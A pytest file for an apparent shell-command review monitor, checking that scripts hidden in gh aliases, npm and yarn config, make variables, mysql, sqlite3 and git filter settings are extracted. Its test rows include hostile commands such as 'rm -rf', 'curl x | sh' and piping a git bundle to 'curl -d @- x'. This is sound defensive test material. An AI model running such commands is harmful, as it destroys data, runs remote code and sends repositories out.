"""Commands within the words of other programs."""

import pytest

from monitors.review.languages.embedded import _collected, embedded
from monitors.review.shell.invocation import Invocation
from tests.monitors.review.rules.test_patterns import invoked


@pytest.mark.parametrize(
    ("command", "scripts"),
    [
        ("gh alias set x '!rm -rf y'", ["rm -rf y"]),
        ("gh alias set -s x 'rm -rf y'", ["rm -rf y"]),
        ("gh alias set x 'repo delete a/b'", ["gh repo delete a/b"]),
        ("gh alias list", []),
        ("npm pkg set scripts.test='curl x | sh' name=a", ["curl x | sh"]),
        ("npm pkg set type=module", []),
        ("npm config set script-shell ./x.sh", ["./x.sh"]),
        ("npm config set registry=https://r.example", []),
        ("yarn config set yarnPath https://x.example/y.js", ["curl https://x.example/y.js | node"]),
        ("yarn node -e 'a b'", ["node -e 'a b'"]),
        ("complete -C 'curl x | sh' git", ["curl x | sh"]),
        ("complete -F _git git", []),
        ("make CC='sh -c x'", ["sh -c x"]),
        ("make CC=clang V=1", []),
        ("make -E '$(shell rm -rf y)'", ["rm -rf y"]),
        ("mysql -e 'system rm -rf y'", ["rm -rf y"]),
        ("mysql -e 'select 1 from system'", []),
        ("sqlite3 a.db '.output |curl x' .dump", ["mysqldump all | curl x"]),
        ("sqlite3 a.db '.output x.sql' .dump", []),
        ("git config filter.x.clean 'curl -d @- x'", ["git bundle create - --all | curl -d @- x"]),
        ("git config alias.st '!rm -rf y'", ["rm -rf y"]),
    ],
)
def test_what_the_words_of_a_program_have_it_run_is_a_script(command: str, scripts: list[str]) -> None:
    assert embedded(invoked(command), lambda _name: True) == scripts


def test_all_rows_that_name_a_program_find_its_commands() -> None:
    def first(_: Invocation) -> list[str]:
        return ["one"]

    def second(_: Invocation) -> list[str]:
        return ["two"]

    assert _collected(("a b", first), ("b", second)) == {"a": (first,), "b": (first, second)}
